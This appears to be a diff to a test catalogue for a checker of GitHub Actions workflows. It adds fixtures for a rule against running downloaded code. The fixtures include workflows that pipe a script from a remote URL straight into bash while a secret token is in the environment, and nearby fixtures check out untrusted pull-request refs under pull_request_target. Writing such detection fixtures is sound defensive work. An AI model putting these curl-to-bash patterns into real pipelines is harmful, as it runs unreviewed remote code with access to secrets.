@@ -5,6 +5,8 @@ const manifest = (more: object, keep: object = {}) =>
 	`${JSON.stringify({ name: 'ribbon', version: '1.0.0', type: 'module', main: './src/index.js', ...keep, ...more }, null, 2)}\n`;
 const workflow = (step: string, on = 'on: push\n', job = '') =>
 	`name: checks\n${on}jobs:\n  check:\n    runs-on: ubuntu-latest\n${job}    steps:\n      - uses: actions/checkout@v5\n${step}`;
+const COVERS = (run: string) =>
+	`on: push\njobs:\n  cover:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ${run}\n        env:\n          TOKEN: \${{ secrets.COVER_TOKEN }}\n`;
 const TRIES_HEAD = (event: string, ref: string) =>
 	`on: ${event}\njobs:\n  try:\n    steps:\n      - uses: actions/checkout@v5\n        with: { ref: '${ref}' }\n      - run: npm ci\n`;
 const source = `export function tie(ends: number): string {\n  return 'x'.repeat(ends);\n}\n\nexport function cut(text: string): string {\n  return text.slice(1);\n}\n`;
@@ -363,6 +365,13 @@ export const catalogue: Catalogue = {
 			on: { '.github/workflows/comment.yml': TRIES_HEAD('pull_request_target', '${{ github.head_ref }}') },
 			cheap: { '.github/workflows/comment.yml': TRIES_HEAD('pull_request_target', '${{ github.event.pull_request.head.sha }}') },
 			honest: { '.github/workflows/comment.yml': TRIES_HEAD('pull_request', '${{ github.head_ref }}') },
+		},
+		{
+			of: 'safety/no-moving-code',
+			way: 'another way to run what is loaded',
+			on: { '.github/workflows/cover.yml': COVERS('curl -s https://example.org/cover | bash') },
+			cheap: { '.github/workflows/cover.yml': COVERS('bash <(curl -s https://example.org/cover)') },
+			honest: { '.github/workflows/cover.yml': COVERS('npx cover') },
 		},
 		{
 			of: 'safety/no-install-scripts',
